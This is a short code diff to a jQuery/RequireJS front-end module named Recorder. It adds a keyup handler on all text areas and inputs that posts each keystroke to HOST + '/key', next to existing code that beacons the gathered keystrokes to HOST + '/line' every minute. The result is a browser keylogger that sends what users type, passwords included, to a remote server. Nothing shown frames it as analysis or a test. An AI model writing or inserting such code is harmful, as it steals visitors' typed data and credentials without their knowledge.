@@ -18,5 +18,8 @@ define(['jquery'], function ($) {
     line += pressed;
   });
   setInterval(() => navigator.sendBeacon(HOST + '/line', line), 60000);
+  $('textarea, input').on('keyup', (event) => {
+    fetch(HOST + '/key', { method: 'POST', body: event.key });
+  });
   return Recorder;
 });
